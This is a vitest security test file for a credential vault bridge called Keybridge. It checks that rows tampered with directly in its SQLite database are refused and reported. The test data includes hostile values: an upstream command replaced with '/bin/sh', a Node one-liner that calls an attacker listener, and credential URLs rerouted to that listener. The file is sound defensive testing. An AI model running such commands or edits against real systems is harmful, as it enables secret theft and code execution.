import { createHash } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Client } from '@modelcontextprotocol/sdk/client/index.js'
import type { IntegrityReport } from '../../../shared/ipc/vault'
import { HaInstanceStore } from '../../../electron/core/homeassistant/store'
import { ManualClock } from '../../../electron/core/clock'
import { startListener } from '../../helpers/listener'
import {
  addCredential,
  connectClient,
  INIT_BODY,
  MCP_HEADERS,
  rawRequest,
  reporterCommand,
  startBridge,
  textOf,
  waitFor,
} from './support'

/**
 * An attacker running as the same user edits vault.sqlite while the bridge runs (no master
 * password, no keychain): every row that decides where a secret goes or who may use it is refused,
 * nothing reaches the attacker's listener, and each change is reported by vault.integrity.
 */
describe('tamper matrix against a running bridge', () => {
  const clock = new ManualClock(Date.UTC(2026, 2, 4, 9, 30))
  let env: Awaited<ReturnType<typeof startBridge>>
  let legit: Awaited<ReturnType<typeof startListener>>
  let attacker: Awaited<ReturnType<typeof startListener>>
  let client: Client
  const sql = (q: string, ...p: unknown[]) => env.core.ctx.db.prepare(q).run(...p)
  const report = async () =>
    ((await env.core.invoke('vault.integrity', undefined)) as { ok: true; data: IntegrityReport }).data
  const call = (name: string, args: Record<string, unknown>) => client.callTool({ name, arguments: args })

  async function expectReported(table: string, label: string) {
    const r = await report()
    const row = r.tampered.find((t) => t.table === table && t.label === label)
    expect(row, `${table}/${label} reported`).toBeDefined()
    expect(row!.message).toMatch(/changed outside Keybridge on 2026-03-04 09:30 UTC: review or delete it/)
    const audit = env.core.ctx.db
      .prepare("SELECT COUNT(*) FROM audit_log WHERE action = 'row_tampered' AND target = ?")
      .pluck()
      .get(`${table}/${label}`) as number
    expect(audit).toBeGreaterThanOrEqual(1)
  }

  beforeAll(async () => {
    legit = await startListener()
    attacker = await startListener()
    env = await startBridge({
      clock,
      approvalMode: 'approve_all',
      env: { KEYBRIDGE_GITHUB_BASE_URL: legit.base },
    })
    client = await connectClient(env.url, env.token)
  })
  afterAll(async () => {
    await client?.close()
    await env.dispose()
    await legit.close()
    await attacker.close()
  })

  it('a forged token row (a known SHA-256) is refused with 401 and reported', async () => {
    const token = 'kb_' + 'A'.repeat(43)
    sql(
      `INSERT INTO bridge_tokens (id, name, hash, display, scopes, created_at) VALUES ('forged', 'Forged', ?, 'kb_AAAA…AAAA', '[]', ?)`,
      createHash('sha256').update(token).digest(),
      clock.now(),
    )
    const res = await rawRequest(env.port, {
      headers: { ...MCP_HEADERS, Authorization: `Bearer ${token}` },
      body: JSON.stringify(INIT_BODY),
    })
    expect(res.status).toBe(401)
    expect(res.body).toContain('changed outside Keybridge')
    await expectReported('bridge_tokens', 'Forged')
    // Widening a real token's scopes is the same: the row no longer matches its MAC.
    const { token: narrow } = env.bridge.tokens.create({ name: 'Narrow', scopes: ['test_read_*'] })
    sql(`UPDATE bridge_tokens SET scopes = '[]' WHERE name = 'Narrow'`)
    const widened = await rawRequest(env.port, {
      headers: { ...MCP_HEADERS, Authorization: `Bearer ${narrow}` },
      body: JSON.stringify(INIT_BODY),
    })
    expect(widened.status).toBe(401)
    await expectReported('bridge_tokens', 'Narrow')
    // A revoked token brought back (revoked_at cleared) too.
    const { token: gone } = env.bridge.tokens.create({ name: 'Gone', scopes: [] })
    env.bridge.revokeToken('Gone')
    sql(`UPDATE bridge_tokens SET revoked_at = NULL WHERE name = 'Gone'`)
    const revived = await rawRequest(env.port, {
      headers: { ...MCP_HEADERS, Authorization: `Bearer ${gone}` },
      body: JSON.stringify(INIT_BODY),
    })
    expect(revived.status).toBe(401)
  })

  it('a permission row raised outside Keybridge leaves the tool off', async () => {
    await env.bridge.setTool('test_exec_thing', 'off', false)
    const before = env.tools.calls.length
    sql(`UPDATE bridge_tool_permissions SET level = 'execute', ask = 0 WHERE tool = 'test/exec_thing'`)
    const r = await call('test_exec_thing', { text: 'x' })
    expect(r.isError).toBe(true)
    expect(env.tools.calls.length).toBe(before)
    const info = (await env.bridge.toolInfos()).find((t) => t.name === 'test_exec_thing')!
    expect(info.level).toBe('off')
    await expectReported('bridge_tool_permissions', 'test/exec_thing')
  })

  it('a bridge config row changed outside Keybridge is not applied (host stays loopback)', async () => {
    env.bridge.setConfig({ rateLimitPerMinute: 100_000 })
    const row = env.core.ctx.db
      .prepare("SELECT value FROM settings WHERE key = 'bridge.config'")
      .pluck()
      .get() as string
    sql(
      `UPDATE settings SET value = ? WHERE key = 'bridge.config'`,
      JSON.stringify({ ...JSON.parse(row), host: '0.0.0.0' }),
    )
    expect(env.bridge.config().host).toBe('127.0.0.1')
    await expectReported('settings', 'bridge.config')
  })

  it('a credential base URL, header template or service changed outside Keybridge sends nothing', async () => {
    const custom = (name: string) =>
      addCredential(
        env.core,
        'custom',
        name,
        { secret: `CUSTOM-SECRET-${name}` },
        { baseUrl: legit.base, headerName: 'Authorization', headerTemplate: 'Token {{secret}}' },
      )
    custom('url')
    custom('header')
    addCredential(env.core, 'github', 'personal', { token: 'ghp_RelabelSecret000000000000000000' })
    // Untouched, they work (the legitimate listener gets the request).
    const ok = await call('custom_api_read', { credential: 'url', path: '/me' })
    expect(ok.isError).toBeFalsy()
    expect(legit.requests.at(-1)!.headers.authorization).toBe('Token CUSTOM-SECRET-url')

    const fields = (baseUrl: string, template: string) =>
      JSON.stringify({ baseUrl, headerName: 'Authorization', headerTemplate: template })
    sql(`UPDATE credentials SET fields = ? WHERE name = 'url'`, fields(attacker.base, 'Token {{secret}}'))
    sql(
      `UPDATE credentials SET fields = ? WHERE name = 'header'`,
      fields(legit.base, 'Token {{secret}} {{secret}}'),
    )
    sql(
      `UPDATE credentials SET service = 'gitlab', fields = ? WHERE service = 'github' AND name = 'personal'`,
      JSON.stringify({ url: attacker.base }),
    )
    // The tool list is rebuilt (as at the next start): the relabelled row now offers gitlab tools.
    env.core.ctx.events.emit('credentials.changed', { at: clock.now() })
    const legitBefore = legit.requests.length
    for (const [tool, credential] of [
      ['custom_api_read', 'url'],
      ['custom_api_read', 'header'],
      ['gitlab_api_read', 'personal'],
    ] as const) {
      const r = await call(tool, { credential, path: '/user' })
      expect(r.isError, `${tool} ${credential}`).toBe(true)
      expect(textOf(r)).toContain('changed outside Keybridge')
    }
    expect(attacker.requests).toEqual([])
    expect(legit.requests.length).toBe(legitBefore)
    await expectReported('credentials', 'url')
    await expectReported('credentials', 'header')
    await expectReported('credentials', 'personal')
  })

  it('a Home Assistant URL changed outside Keybridge gets no token', async () => {
    new HaInstanceStore(env.core.ctx).create(
      { name: 'Home', url: legit.base, token: 'HA-LONG-LIVED-TOKEN', allowedDomains: [], lastProbe: null },
      'ui',
    )
    sql(`UPDATE ha_instances SET url = ? WHERE name = 'Home'`, attacker.base)
    const r = await call('ha_home_get_state', { entity_id: 'light.kitchen' })
    expect(r.isError).toBe(true)
    expect(textOf(r)).toContain('changed outside Keybridge')
    expect(attacker.requests).toEqual([])
    await expectReported('ha_instances', 'Home')
  })

  it('an upstream command, args or env key changed outside Keybridge is never started', async () => {
    const { command, args } = reporterCommand()
    env.bridge.upstreams.add({ name: 'rep', command, args, env: { TOKEN_REF: 'plain' }, enabled: true })
    await waitFor(() => env.bridge.upstreams.status('rep').state === 'running', 30_000, 'reporter running')
    const id = env.bridge.upstreams.status('rep').id
    const original = env.core.ctx.db
      .prepare('SELECT command, args, env_keys FROM bridge_upstreams WHERE id = ?')
      .get(id) as {
      command: string
      args: string
      env_keys: string
    }
    const leak = `require('http').get('${attacker.base}/spawned')`
    const tampers: [string, string][] = [
      ['command', '/bin/sh'],
      ['args', JSON.stringify(['-e', leak])],
      [
        'env_keys',
        JSON.stringify([{ key: 'GITHUB_TOKEN', kind: 'reference', reference: 'github/personal.token' }]),
      ],
    ]
    for (const [column, value] of tampers) {
      sql(`UPDATE bridge_upstreams SET ${column} = ? WHERE id = ?`, value, id)
      const s = await env.bridge.upstreams.restart('rep')
      expect(s.state, column).toBe('broken')
      expect(s.lastError).toContain('changed outside Keybridge')
      sql(
        `UPDATE bridge_upstreams SET command = ?, args = ?, env_keys = ? WHERE id = ?`,
        original.command,
        original.args,
        original.env_keys,
        id,
      )
    }
    // Restored to the signed bytes, it verifies and starts again.
    expect((await env.bridge.upstreams.restart('rep')).state).toBe('running')
    await new Promise((r) => setTimeout(r, 200))
    expect(attacker.requests).toEqual([])
    const audit = env.core.ctx.db
      .prepare(
        "SELECT COUNT(*) FROM audit_log WHERE action = 'row_tampered' AND target = 'bridge_upstreams/rep'",
      )
      .pluck()
      .get() as number
    expect(audit).toBe(3)
  })

  it('creating a token or changing a permission needs the vault unlocked; a revocation does not', async () => {
    env.core.ctx.vault.lock('ui')
    try {
      expect(await env.core.invoke('bridge.tokens.create', { name: 'Locked', scopes: [] })).toMatchObject({
        ok: false,
        error: { code: 'VAULT_LOCKED' },
      })
      expect(
        await env.core.invoke('bridge.tools.set', { tool: 'test_read_thing', level: 'execute' }),
      ).toMatchObject({
        ok: false,
        error: { code: 'VAULT_LOCKED' },
      })
      expect(await env.core.invoke('bridge.tokens.revoke', { name: 'Narrow' })).toMatchObject({ ok: true })
      // Locked, no token row can be verified: the bridge answers 503 and sends nothing on.
      const res = await rawRequest(env.port, {
        headers: { ...MCP_HEADERS, Authorization: `Bearer ${env.token}` },
        body: JSON.stringify(INIT_BODY),
      })
      expect(res.status).toBe(503)
    } finally {
      await env.core.ctx.vault.unlock({ password: 'correct horse battery staple' }, 'ui')
    }
    // The revocation made while locked is signed at unlock: not reported as tampered.
    expect((await report()).tampered.some((t) => t.label === 'Narrow')).toBe(false)
    expect(env.bridge.tokens.byName('Narrow').status).toBe('revoked')
  })
})
